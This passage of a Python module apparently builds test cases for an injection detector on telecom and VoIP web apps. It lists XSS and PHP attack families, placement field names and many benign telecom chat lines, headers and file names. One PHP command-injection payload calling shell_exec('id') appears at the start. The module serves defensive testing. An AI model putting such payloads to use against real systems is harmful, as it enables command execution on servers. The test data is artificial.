    "escapeshellarg($_GET['x']).shell_exec('id')",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJ),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTR),
    ("xss", "javascript-uri", XSS_JSURI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "dom-sink-template-literal", XSS_DOM),
    ("xss", "ie-filter-style", XSS_IE),
    ("xss", "encoded-entity", XSS_ENC),
    ("xss", "client-template", XSS_TPL),
    ("php", "php-open-tag", PHP_TAG),
    ("php", "php-function-call", PHP_FUNC),
    ("php", "php-variable-functions", PHP_VARFN),
    ("php", "php-wrappers", PHP_WRAP),
    ("php", "php-object-injection", PHP_OBJ),
    ("php", "php-config-directives", PHP_INI),
    ("php", "superglobals", PHP_SUPER),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_RISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "callerid", "extension", "display", "mailbox", "did", "comments", "message", "name", "search"]
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t\x0b"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios of telecom engineers and call-centre staff,
# searches, links to vendor docs, profiles, recording and firmware file names, ordinary headers)
CHAT = [
    "trunk to the carrier is flapping again, seeing 503 Service Unavailable on every INVITE since 09:40",
    "can someone check queue 600? callers wait 4 min and the agents show as paused",
    "FreePBX upgrade to 16 done on pbx-02, please re-test the IVR before lunch",
    "the SIP trace shows 401 Unauthorized then a re-INVITE with the right nonce, so auth itself is fine",
    "exten => _9NXXXXXX,1,Dial(PJSIP/${EXTEN:1}@carrier-out,60)",
    "same => n,Playback(vm-goodbye)",
    "who owns the script tag in the softphone landing page? marketing wants to add analytics",
    "VICIdial hopper is empty for campaign SALES2, lists were reset at midnight",
    "CDR report for June is in the shared drive, select calls where disposition = 'NO ANSWER' look odd",
    "SELECT src, dst, billsec FROM cdr WHERE calldate > '2024-06-01' AND disposition = 'ANSWERED';",
    "the php-fpm pool on the provisioning box ran out of workers, bumped pm.max_children to 40",
    "phones pull SEP001122334455.cnf.xml over TFTP, the 7841s need the new firmware load first",
    "asterisk -rx 'pjsip show endpoints' shows 1042 as Unavailable, probably the NAT keepalive",
    "Issabel backup restored fine, only the voicemail greetings were missing",
    "can we move the recordings from /var/spool/asterisk/monitor to the NAS? disk is at 91%",
    "3CX web client shows the wrong display name for ext 205 after the AD sync",
    "the onload handler in our WebRTC page registers the SIP.js user agent, that's why it's slow",
    "event handler for call hangup fires twice in the softphone, I'll open a ticket",
    "Avaya CM: list station 4000 count 50 — exported to the spreadsheet",
    "Cisco CUCM: device pool for the Berlin office is still pointing at the old region",
    "SMS gateway returned 'ESME_RTHROTTLED' on about 200 messages last night",
    "USSD menu *123# times out after 30s on the carrier side, not ours",
    "number porting for +44 20 7946 0000 is scheduled for Thursday 06:00",
    "the porting form keeps rejecting the account number, it has a leading zero",
    "eval of the new dialer: GOautodial feels lighter than VICIdial but fewer reports",
    "we use the system() dialplan app only for the nightly cleanup script, everything else is AGI",
    "AGI script died with 'PHP Fatal error: Allowed memory size exhausted' on long calls",
    "the include => from-internal-custom line is what pulls in our custom contexts",
    "the Asterisk manager.conf permits 10.0.0.0/8 only, the NOC asked for the monitoring host",
    "anyone know why SRTP negotiation fails with the Yealink T54W? crypto line looks right",
    "SIP/2.0 486 Busy Here from the PSTN gateway when the callee is on another call, normal",
    "SIP/2.0 408 Request Timeout again on trunk-b, the SBC isn't answering OPTIONS",
    "Via: SIP/2.0/UDP 10.1.2.3:5060;branch=z9hG4bK776asdhds — the branch looks fine to me",
    "From: \"Reception\" <sip:100@pbx.example.com>;tag=1928301774",
    "Contact: <sip:1042@192.0.2.10:5060;transport=udp>;expires=3600",
    "User-Agent on the REGISTER says Grandstream GXP2170 1.0.11.23",
    "the phpinfo page on the old Elastix box shows PHP 5.4, we really need to retire it",
    "please don't paste the SIP secret in the channel, rotate it in the extension page",
    "the voicemail to email template uses ${VM_NAME} and ${VM_CALLERID}, those are Asterisk variables",
    "VM_CALLERID shows 'Unknown' for anonymous calls, expected",
    "is the billing export a CSV or the XML one? finance wants column headers",
    "CDR userfield column is empty since the upgrade, the module stopped writing it",
    "agent screen in VICIdial shows the comments field, supervisors want it bigger",
    "queue_log shows ABANDON with position 1 and wait 12, so the caller hung up quickly",
    "ring group 601 strategy is ringall, change to hunt for the night shift please",
    "the IVR prompt 'press 1 for sales' was re-recorded, file is custom/ivr-main-en.wav",
    "MOH class 'default' plays the old jingle, swap it for the new file",
    "the firmware upload page on the SBC only accepts .tar.gz",
    "DTMF mode rfc2833 vs info: the carrier wants rfc4733, same thing",
    "I'll write the runbook: restart asterisk with 'core restart gracefully' after 22:00",
    "the phone config files are generated by a PHP template in the endpoint manager",
    "endpoint manager template for Polycom uses <reg.1.address> in the XML",
    "who has the Avaya SMGR password for the lab? the vault entry is empty",
    "session border controller drops REFER, so blind transfers fail on trunk-a",
    "RTP timeout after 30s of silence on hold, rtptimeout in the peer config",
    "our number in the call centre directory is 0800 123 456, toll-free for customers",
    "new hire on the NOC rota: Priya, extension 2210, team voice-core",
    "carrier self-care portal logged me out twice while updating the emergency address",
    "E911 address for the Dallas site is still the old building",
    "outage report: 14:02-14:19 UTC inbound calls failed with 503, root cause DNS SRV on the SBC",
    "the post-mortem doc has the SIP ladder diagram from sngrep",
    "sngrep -d eth0 port 5060 is the quickest way to see it live",
    "tcpdump -i any -w /tmp/trunk.pcap udp port 5060",
    "Wireshark VoIP calls → flow sequence makes the ladder diagram for the ticket",
    "the GUI warns 'Reload required' after every save, click Apply Config",
    "Apply Config failed: 'Exit: 1 - retrieve_conf returned an error'",
    "fwconsole ma upgradeall && fwconsole reload — done on all three boxes",
    "fwconsole chown fixed the permissions on the recordings folder",
    "our UCP users can download recordings as .wav or .mp3",
    "the call-recording portal search by date range is slow past 90 days",
    "Slack bot posts missed calls to #sales with the caller ID and the queue",
    "WebRTC softphone needs a valid TLS cert on the WSS port 8089 or Chrome refuses",
    "ICE candidates from the softphone include the private IP, STUN is configured",
    "codec order: opus, g722, ulaw, alaw — the carrier only takes ulaw/alaw",
    "T.38 fax passthrough is still flaky on the ATA in the warehouse",
    "the base64 blob in the provisioning URL is just the MAC and a token",
    "Avaya one-X agent shows 'Login failed: station in use' for the whole morning shift",
    "Cisco Jabber users can't see presence since the IM&P node rebooted",
    "the billing rate table has a row for +1 900 numbers that we should block",
    "dial plan pattern 9.1[2-9]XX[2-9]XXXXXX in CUCM for NANP long distance",
    "for the USSD session the gateway sends the menu text as plain UTF-8",
    "SMS body limit is 160 GSM-7 characters or 70 UCS-2",
    "template for the appointment reminder SMS: 'Hi {{first_name}}, your call is at {{time}}'",
    "the Vue dashboard for the supervisors shows {{ queue.waiting }} callers in the header",
    "input validation on the porting form should allow + and spaces in phone numbers",
    "voicemail PIN reset for ext 1007, user locked after 3 failed tries",
    "the SIP OPTIONS ping every 60s is what qualify=yes does",
    "upgrade the Sangoma phones to the firmware in the shared folder before Friday",
    "music on hold upload rejected: file must be .wav 8kHz mono",
]
SEARCHES = [
    "1042", "ext 2210", "voice-core", "Priya", "NOC", "queue 600", "call centre", "VICIdial admin",
    "sip trunk", "billing", "porting", "Avaya", "Cisco UC", "supervisor", "night shift", "reception",
    "O'Connor", "São Paulo office", "webrtc", "sms gateway", "+44 20 7946", "helpdesk tier 2",
]
URLS = [
    "https://wiki.asterisk.org/wiki/display/AST/Dialplan",
    "https://docs.asterisk.org/Configuration/Dialplan/Variables/",
    "https://wiki.freepbx.org/display/FPG/Extensions+Module",
    "https://www.3cx.com/docs/manual/",
    "https://www.vicidial.org/docs/AGENT_MANUAL.pdf",
    "https://www.rfc-editor.org/rfc/rfc3261",
    "https://www.rfc-editor.org/rfc/rfc4733",
    "https://www.php.net/manual/en/function.exec.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/WebRTC_API",
    "https://sipjs.com/guides/",
    "https://issues.example.com/browse/VOICE-1182",
    "https://status.carrier.example/incidents/2024-06-12",
]
PROSE = [
    "SIP trunk outage post-mortem - June 12",
    "Call centre supervisor handbook (VICIdial)",
    "How to read a SIP trace: INVITE, 100 Trying, 180 Ringing, 200 OK, ACK",
    "Dial plan cheat sheet: exten => _X.,1,Dial(PJSIP/${EXTEN})",
    "Voicemail greeting guidelines for the support team",
    "Porting request checklist: account number, PIN, billing address",
    "Runbook: restart Asterisk gracefully",
    "Queue statistics explained: abandon rate and service level",
    "Notes on PHP upgrade for the provisioning server",
    "WebRTC softphone rollout, phase 2",
]
PROFILES = [
    ("Priya Raman", "VoIP engineer, voice-core, ext 2210"),
    ("Marco Dial", "Via Roma 12, Milano"),
    ("Trunk & Line Telecom", "Harbour Rd 7, Cork"),
    ("Sean O'Connor", "Call centre supervisor, Dublin"),
    ("Ana Queue", "Rua do Ouro 45, Lisboa"),
    ("System Integrators Ltd", "Unit 4, Reading"),
    ("Eval Partners", "Kungsgatan 2, Stockholm"),
    ("Script & Voice Studio", "Calle Mayor 3, Madrid"),
]
UPLOAD_NAMES = [
    "ivr-main-en.wav", "greeting-1001.wav", "moh-jingle-2024.mp3", "cdr-export-2024-06.csv",
    "queue-stats-june.xlsx", "sip-trace-trunk-a.pcap", "SEP001122334455.cnf.xml", "firmware-7841-14.2.1.zip",
    "yealink-T54W-96.86.0.70.rom", "vicidial-leads-import.csv", "porting-LOA-signed.pdf",
    "outage-postmortem-0612.docx", "billing-rates-v3.xlsx", "recording-20240612-140233-1042.wav",
    "dialplan-extensions_custom.conf.txt", "php-upgrade-notes.md", "avaya-station-list.csv",
    "webrtc-softphone-screenshot.png",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Zoiper rv2.10.20.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.7.1"),
    ("Referer", "https://pbx.example.com/admin/config.php?display=extensions"),
    ("Referer", "https://dialer.example.com/vicidial/admin.php?ADD=10"),
    ("Referer", "https://wiki.freepbx.org/display/FPG/Queues+Module"),
    ("Referer", "https://www.google.com/search?q=sip+503+service+unavailable"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "9b2e4c1a-7f3d-4a55-8e21-6c0d3f9a1b77"),
    ("Accept-Language", "en-US,en;q=0.9,pt-BR;q=0.8"),
    ("Cookie", "session=abc123; ext=1042; queue=600"),
    ("Cookie", "session=abc123; tz=America%2FChicago; page_size=25"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
